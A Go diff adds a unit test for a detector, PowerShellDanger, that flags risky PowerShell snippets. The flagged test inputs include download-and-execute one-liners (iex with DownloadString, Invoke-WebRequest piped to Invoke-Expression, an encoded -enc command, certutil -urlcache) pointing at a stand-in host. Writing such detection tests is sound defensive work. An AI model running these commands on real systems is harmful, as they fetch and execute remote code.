@@ -18,3 +18,21 @@ func TestPublicIP(t *testing.T) {
 		}
 	}
 }
+
+func TestPowerShellDanger(t *testing.T) {
+	for script, want := range map[string]bool{
+		"iex (New-Object Net.WebClient).DownloadString('https://dl.example.invalid/a.ps1')":       true,
+		"Invoke-WebRequest https://dl.example.invalid/a.ps1 -UseBasicParsing | Invoke-Expression": true,
+		"$s = irm https://dl.example.invalid/i.ps1 | iex":                                         true,
+		"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA":                       true,
+		"certutil -urlcache -split -f http://dl.example.invalid/s.exe s.exe":                      true,
+		// a build script: downloads a file, runs nothing it fetched
+		"Invoke-WebRequest -Uri $url -OutFile node.zip\nExpand-Archive node.zip -DestinationPath out": false,
+		"$v = Invoke-Expression 'git describe --tags'":                                                false,
+		"Write-Host 'done'": false,
+	} {
+		if got := PowerShellDanger(script) != ""; got != want {
+			t.Errorf("PowerShellDanger(%q) = %v, want %v", script, got, want)
+		}
+	}
+}
